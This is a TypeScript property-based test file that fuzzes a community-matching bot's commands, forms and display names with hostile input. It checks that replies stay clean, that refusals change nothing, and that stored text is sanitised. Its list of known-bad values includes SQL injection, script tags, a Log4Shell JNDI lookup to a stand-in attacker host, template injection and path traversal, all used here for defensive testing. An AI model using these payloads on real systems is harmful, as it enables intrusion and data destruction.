// Generated hostile input against every command and every form, on SQLite and PostgreSQL: each
// call is answered in words (no apology for a crash, no raw message key), a refusal changes
// nothing in the community's rows, and whatever is accepted is stored as clean text (well-formed
// Unicode, no control characters but newlines and tabs, NFC).
import { Writable } from "node:stream";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { commands } from "../../commands/index.js";
import { handlersOf } from "../../src/app/command.js";
import type { Actor } from "../../src/app/context.js";
import type { Outcome } from "../../src/app/reply.js";
import { createBot, type Bot } from "../../src/bot.js";
import { usableWeights } from "../../src/core/matching/index.js";
import { createLogger } from "../../src/logger.js";
import { createDb, isPostgresUrl } from "../../src/store/db.js";
import { freshSqliteUrl, postgresUrl } from "../support/db.js";
import { communityRows } from "../support/rows.js";
import { recordingPort } from "../support/recording-port.js";

const NOW = new Date("2026-12-02T01:00:00Z");

/** Values that reached the store or crashed a command once, and their neighbours. */
const KNOWN_BAD = [
  // not text
  "\u0000", "a\u0000b", "\uD800", "x\uDFFFy", "\u200B", "\u200B\u200D", "\u202Eevil", "\u3164", "\u2800", "e\u0301", "\r\n", "\n", "\t",
  "👨‍👩‍👧", "ｅｖｉｌ．ｘｙｚ", "\u0085", "\u001B[31mred",
  // injections and mentions
  "'; DROP TABLE \"Member\"; --", "@everyone", "@here", "<!channel>", "<script>alert(1)</script>", "${jndi:ldap://evil.xyz/a}",
  "{{7*7}}", "%s%n", "../../etc/passwd", "evil.xyz/claim", "https://evil.xyz/claim", "<@U0000000>", "<#C0000>", "<@&1>",
  "@aiko", "#general", "hello", "@", "#", "<@>",
  // numbers and sizes out of range
  "-1", "0", "1e308", "1e20", "NaN", "Infinity", "0x10", "９", "2147483648", "-0", "3.5", "", " ",
  // dates at the edges
  "9999-12-31 23:59", "0000-01-01 00:00", "2026-02-30 10:00", "275760-09-13 00:00", "1970-01-01T00:00Z", "2026-13-01 10:00",
  "明日 25時", "毎月第2火曜 19:30", "2031-12-03 10:00",
  // weights the engine cannot take
  "historyHalfLifeWeeks=0", "offerSeek=100000000000000000000", "differentIndustry=-5", "metBefore=1e3", "offerSeek=1=2",
  // time zones
  "Mars/Olympus", "UTC", "Asia/Tokyo\u0000", "Etc/GMT+14",
];

const text = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...KNOWN_BAD) },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom(...KNOWN_BAD), fc.constantFrom(...KNOWN_BAD)).map(([a, b]) => `${a}${b}`) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 30 }) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 5000 }).map((n) => "あ".repeat(n)) },
);

/** What a platform may hand over as an option's value: text mostly, numbers, and the odd wrong type. */
const optionValue = fc.oneof(
  { weight: 8, arbitrary: text },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constant(Number.MAX_SAFE_INTEGER + 2)) },
  { weight: 1, arbitrary: fc.oneof(fc.boolean(), fc.constant(null), fc.constant(["a", "b"]), fc.constant({ id: "1" })) },
);

const formValue = fc.oneof({ weight: 6, arbitrary: text }, { weight: 1, arbitrary: fc.array(text, { maxLength: 4 }) });

const CONTROL = /[\p{Cc}\u202A-\u202E\u2066-\u2069]/u;

/** Why a stored text is not clean text, or nothing. */
function uncleanText(value: string): string | undefined {
  if (!value.isWellFormed()) return "not well-formed";
  if (CONTROL.test(value.replace(/[\n\t]/g, ""))) return "control character";
  if (value !== value.normalize("NFC")) return "not NFC";
  return undefined;
}

function stringsIn(value: unknown, out: string[] = []): string[] {
  if (typeof value === "string") {
    out.push(value);
    if (/^[[{]/.test(value)) {
      try {
        stringsIn(JSON.parse(value), out);
      } catch {
        // not JSON: the text itself was checked
      }
    }
  } else if (Array.isArray(value)) value.forEach((v) => stringsIn(v, out));
  else if (value && typeof value === "object" && !(value instanceof Date)) Object.values(value).forEach((v) => stringsIn(v, out));
  return out;
}

const COMMAND_HANDLERS = commands.flatMap((command) => handlersOf(command).map(({ subcommand, handler }) => ({
  name: command.name, subcommand, options: Object.keys(handler.options),
})));
const FORMS = commands.flatMap((command) => command.forms ?? []).map((form) => ({
  id: form.id, pages: form.pages.map((fields) => fields.map((f) => f.id)),
}));

/** A message key left untranslated ("rounds.error.title"), or a value rendered as code would. */
const RAW = /\b[a-z]+(?:\.[a-z][A-Za-z]*){2,}\b|\bundefined\b|\[object Object\]|\bNaN\b/;

for (const [backend, url] of [["SQLite", freshSqliteUrl()], ["PostgreSQL", postgresUrl()]] as const) {
  describe.skipIf(url === null)(`hostile input on ${backend}`, () => {
    const postgres = url !== null && isPostgresUrl(url);
    const runs = postgres ? 80 : 250;
    const logLines: Record<string, unknown>[] = [];
    let bot: Bot;
    let communityId: string;
    const community = { externalId: `hostile-${backend}-${process.pid}-${Date.now()}`, name: "Hostile" };
    const recorder = recordingPort();
    const actor = (userId: string, isOrganizer: boolean): Actor => ({
      platform: "discord", community, userId, displayName: userId, locale: "ja", isOrganizer, channelId: "general",
    });
    const organizer = actor("organizer", true);
    /** The words of an answer: its text and its cards (a card may carry all of it). */
    const textOf = (outcome: Outcome) => (outcome.type === "reply"
      ? [outcome.reply.text, ...stringsIn(outcome.reply.cards ?? [])].join("\n")
      : `(form ${outcome.form.formId})`);
    /** What the dispatcher logged for the call that just ran: "done", "refused" or "failed". */
    const lastVerdict = () => [...logLines].reverse().find((l) => ["done", "refused", "failed"].includes(String(l.msg)));

    beforeAll(async () => {
      const destination = new Writable({
        write(chunk: Buffer, _e, done) {
          for (const line of chunk.toString("utf8").split("\n")) if (line.trim()) logLines.push(JSON.parse(line) as Record<string, unknown>);
          done();
        },
      });
      bot = createBot({ db: createDb(url!), log: createLogger({ level: "info", secrets: [], destination }), now: () => NOW, defaults: { locale: "ja", timeZone: "Asia/Tokyo" } });
      bot.connect(recorder.port);
      const run = (name: string, subcommand: string | undefined, options: Record<string, unknown>) =>
        bot.musubi.command(recorder.port, organizer, { name, subcommand, options });
      // A community with something to find: channels, an intro, pairing on, an offer and a round.
      await run("musubi", "setup", { intro_channel: "intros", offers_channel: "offers" });
      await run("musubi", "pairing settings", { channel: "pairing", enabled: "on" });
      await bot.musubi.submitForm(recorder.port, organizer, { formId: "intro", page: "all", values: {
        industry: "it", role: "Organizer", seniority: "7-15", canOffer: "mentoring", lookingFor: "speakers", languages: ["ja", "en"], meetingPreference: "either",
      } });
      await bot.musubi.submitForm(recorder.port, organizer, { formId: "offer", page: "all", values: { title: "Code review", tags: "review" } });
      await bot.musubi.submitForm(recorder.port, organizer, { formId: "round-create", page: "all", values: {
        kind: "reading", title: "輪読会", start: "2026-12-10 19:30", cadence: "weekly", sessions: "4", capacity: "10", venue: "Shibuya", chapters: "1-4",
      } });
      communityId = (await bot.store.communities.ensure("discord", community.externalId, { name: community.name, locale: "ja", timeZone: "Asia/Tokyo" })).id;
    });
    afterAll(async () => {
      await bot?.stop();
    });

    /** `typed` is what was sent: an answer may quote it back, so it is left out of the check for raw values. */
    async function expectAnsweredCleanly(outcome: Outcome, typed: unknown, before: Record<string, unknown[]>, allowedToChange: readonly string[] = []) {
      const verdict = lastVerdict();
      const reply = textOf(outcome);
      expect(verdict?.msg, `${reply}\n${JSON.stringify(verdict)}`).not.toBe("failed");
      expect(reply.trim().length).toBeGreaterThan(0);
      // What the member typed may be quoted back: in this call, or kept in a form's draft from an earlier one.
      const own = stringsIn(typed).filter(Boolean).sort((a, b) => b.length - a.length)
        .reduce((rest, quoted) => rest.split(quoted.trim() || quoted).join(" "), reply)
        .replace(/「[^」]*」|“[^”]*”/g, "「」");
      expect(own, "a raw key or value in the answer").not.toMatch(RAW);
      const after = await communityRows(bot.db, postgres, communityId);
      if (verdict?.msg === "refused") {
        for (const table of Object.keys(after)) {
          if (!allowedToChange.includes(table)) expect(after[table], `${table} changed by a refusal: ${reply}`).toEqual(before[table]);
        }
      }
      for (const [table, rows] of Object.entries(after)) {
        for (const value of stringsIn(rows)) expect(uncleanText(value), `${table}: ${JSON.stringify(value).slice(0, 120)}`).toBeUndefined();
      }
      // Whatever was accepted, the weekly round can still run on what is stored.
      const { weights } = await bot.store.forCommunity(communityId).pairing.settings();
      expect(usableWeights(weights), `stored weights the engine refuses: ${reply}`).toEqual(weights);
    }

    it("given hostile option values for every command, then each is answered in words and a refusal changes nothing", async () => {
      const call = fc.constantFrom(...COMMAND_HANDLERS).chain((handler) => fc.record({
        handler: fc.constant(handler),
        options: fc.record(Object.fromEntries(handler.options.map((name) => [name, optionValue])), { requiredKeys: [] }),
      }));
      await fc.assert(fc.asyncProperty(call, async ({ handler, options }) => {
        const before = await communityRows(bot.db, postgres, communityId);
        const outcome = await bot.musubi.command(recorder.port, organizer, { name: handler.name, subcommand: handler.subcommand, options });
        await expectAnsweredCleanly(outcome, options, before);
      }), { numRuns: runs });
    }, 600_000);

    it("given hostile answers to every form, whole or page by page, then each is answered in words and a refusal keeps only a clean draft", async () => {
      const submission = fc.constantFrom(...FORMS).chain((form) => fc.record({
        form: fc.constant(form),
        page: fc.constantFrom<number | "all">("all", ...form.pages.map((_, i) => i)),
        values: fc.record(Object.fromEntries(form.pages.flat().map((id) => [id, formValue])), { requiredKeys: [] }),
        extra: fc.dictionary(fc.string({ unit: "binary", maxLength: 8 }), text, { maxKeys: 2 }),
      }));
      await fc.assert(fc.asyncProperty(submission, async ({ form, page, values, extra }) => {
        const before = await communityRows(bot.db, postgres, communityId);
        const answers = { ...extra, ...values } as Record<string, string | string[]>;
        const { outcome } = await bot.musubi.submitForm(recorder.port, organizer, { formId: form.id, page, values: answers });
        await expectAnsweredCleanly(outcome, answers, before, ["FormDraft"]);
      }), { numRuns: runs });
    }, 600_000);

    it("given hostile display names, then the member is answered, the name is stored clean and short, and pairing still runs", async () => {
      await fc.assert(fc.asyncProperty(fc.string({ unit: "binary", maxLength: 400 }), fc.nat(1_000_000), async (displayName, n) => {
        const member: Actor = { ...actor(`m${n}`, false), displayName };
        const outcome = await bot.musubi.command(recorder.port, member, { name: "match", subcommand: "join", options: {} });
        expect(lastVerdict()?.msg).not.toBe("failed");
        expect(textOf(outcome).length).toBeGreaterThan(0);
        const stored = await bot.store.forCommunity(communityId).members.findByPlatformUser(`m${n}`);
        expect(uncleanText(stored!.displayName)).toBeUndefined();
        expect(stored!.displayName.length).toBeLessThanOrEqual(80);
        expect(stored!.displayName.trim()).not.toBe("");
      }), { numRuns: postgres ? 30 : 100 });
      const preview = await bot.musubi.command(recorder.port, organizer, { name: "musubi", subcommand: "pairing preview", options: {} });
      expect(lastVerdict()?.msg).toBe("done");
      expect(textOf(preview)).not.toMatch(RAW);
    }, 600_000);
  });
}
